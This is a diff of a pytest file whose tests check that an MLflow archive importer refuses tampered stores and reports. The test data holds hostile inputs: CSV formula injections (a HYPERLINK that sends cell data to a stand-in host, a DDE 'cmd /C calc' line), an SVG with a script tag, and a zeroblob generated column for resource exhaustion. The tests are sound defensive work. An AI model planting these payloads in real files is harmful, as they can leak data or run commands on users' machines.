@@ -632,9 +632,12 @@ def test_a_second_gzip_stream_after_the_archive_is_refused(home, node, tmp_path,
     refused(home, archive, "more data than its members declare")
 
 
-def test_views_in_place_of_tables_are_refused(home, node, tmp_path, refused):
-    sql = "ALTER TABLE tags RENAME TO t0; CREATE VIEW tags AS SELECT * FROM t0;"
-    refused(home, pack(variant(node, tmp_path, sql), tmp_path / "view.tar.gz"), "tags is not tables")
+@pytest.mark.parametrize("sql", [
+    "ALTER TABLE tags RENAME TO t0; CREATE VIEW tags AS SELECT * FROM t0;",  # a view
+    # a column whose values are made on reading: a 32 KB store asking for gigabytes
+    "ALTER TABLE tags ADD COLUMN x TEXT GENERATED ALWAYS AS (hex(zeroblob(2500000))) VIRTUAL;"])
+def test_views_or_generated_columns_in_place_of_tables_are_refused(home, node, tmp_path, refused, sql):
+    refused(home, pack(variant(node, tmp_path, sql), tmp_path / "view.tar.gz"), "tags is not a plain table")
 
 
 def test_names_with_line_or_direction_characters_are_refused(home, node, tmp_path, refused):
@@ -679,7 +682,25 @@ def test_a_refused_import_into_a_new_store_leaves_nothing(node, tmp_path, capsys
     finally:
         os.chdir(cwd)
     assert status == 2, capsys.readouterr().err
-    assert (sorted(str(p) for p in work.rglob("*")), experiments(db)) == before
+    lock = [] if case != "store without the experiment" else [str(db) + ".writers"]  # may be held: never unlinked
+    assert (sorted(str(p) for p in work.rglob("*") if str(p) not in lock), experiments(db)) == before
+
+
+def test_an_import_into_a_store_another_import_is_making_is_refused_and_removes_nothing(node, tmp_path, capsys):
+    """The store's lock is taken before the store is opened or created: while another process holds
+    it on a store path that has no database yet, the import is refused and leaves that process's
+    files alone (it used to delete a store it took for its own new one)."""
+    import fcntl
+
+    work = tmp_path / "work"
+    work.mkdir()
+    db = work / "mlflow.db"
+    with open(f"{db}.writers", "a") as held:
+        fcntl.flock(held, fcntl.LOCK_EX)
+        status = main(["import", str(pack(node, tmp_path / "n.tar.gz")), "--tracking-uri", f"sqlite:///{db}",
+                       "--results-dir", str(work / "results")])
+        assert status == 2 and "a suite is running on" in capsys.readouterr().err
+        assert Path(f"{db}.writers").exists() and not db.exists() and not (work / "results").exists()
 
 
 def experiments(db: Path) -> list:
@@ -797,6 +818,9 @@ ROWS_OF_MEANING = {  # SQL on the node's store, and what the refusal names
         "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 33) INSERT INTO metrics "
         "SELECT 'p', 0.5, 1000 + i, (SELECT run_uuid FROM tags WHERE key = 'kind' AND value = 'claim'), 0, 0 FROM n;",
         "is logged 33 times at step 0"),
+    "accuracy metric 1.7": ("UPDATE metrics SET value = 1.7 WHERE key GLOB '*_acc' AND run_uuid = '{run}';",
+                            "of run '{run}' is 1.7, which no run logs (accuracies lie in [0, 1]"),
+    "latest value 1e308": ("UPDATE latest_metrics SET value = 1e308 WHERE run_uuid = '{run}';", "is 1e+308"),
     "2,001 metric names": (
         "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 2001) INSERT INTO metrics "
         "SELECT 'm' || i, 1.0, 5, '{run}', 0, 0 FROM n;", "logs 2,0"),
@@ -810,7 +834,7 @@ def test_rows_that_no_run_can_log_are_refused(node, tmp_path, case, refused):
     home = tmp_path / "fresh"
     home.mkdir()
     refused(home, pack(variant(node, tmp_path, sql.format(run=run, local=local)), tmp_path / "rows.tar.gz"),
-            expected.format(local=local))
+            expected.format(local=local, run=run))
 
 
 def _claim_run(node: Path) -> str:
@@ -897,7 +921,10 @@ def test_a_stub_row_of_a_local_run_cannot_carry_links_into_it(node, tmp_path, ca
 def test_a_report_whose_content_is_not_its_kind_is_refused(home, node, tmp_path, refused):
     for name, data, expected in (("claims.csv", b'arm\r\n=HYPERLINK("http://x?a="&A1)\r\n', "like a spreadsheet"),
                                  ("plot.png", b"<svg><script/></svg>", "is not a PNG image"),
-                                 ("bench.json", b"{not json", "is not JSON")):
+                                 ("bench.json", b"{not json", "is not JSON"),
+                                 ("bench.csv", '\ufeff=HYPERLINK("http://x","y")\r\n'.encode(), "byte-order mark"),
+                                 ("claims.csv", b"sep=;\r\nx;=cmd|' /C calc'!A0\r\n", "a 'sep=' line"),
+                                 ("claims.csv", b"a\tb\r\nx\t=1+1\r\n", "like a spreadsheet formula: '=1+1'")):
         refused(home, pack(node, tmp_path / f"{name}.tar.gz", [(member(f"results/full/gpu/{name}", size=len(data)),
                                                                  data)]), expected)
 
@@ -913,3 +940,11 @@ def test_runs_on_an_incomplete_suite_is_one_line(tmp_path, node, capsys):
     err = capsys.readouterr().err
     assert "is incomplete (KeyError 'scale'): pass another --suite-run" in " ".join(err.split())
     assert "Traceback" not in err
+
+
+def test_a_damaged_archive_database_is_refused_naming_it(home, node, tmp_path, refused):
+    """A page overwritten in the archive's database (a broken copy) is found before any row is read."""
+    from test_damaged import damage
+
+    damaged = variant(node, tmp_path, edit=lambda folder: damage(folder / "mlflow.db", "tags"))
+    refused(home, pack(damaged, tmp_path / "damaged.tar.gz"), "its mlflow.db is damaged: SQLite reports")
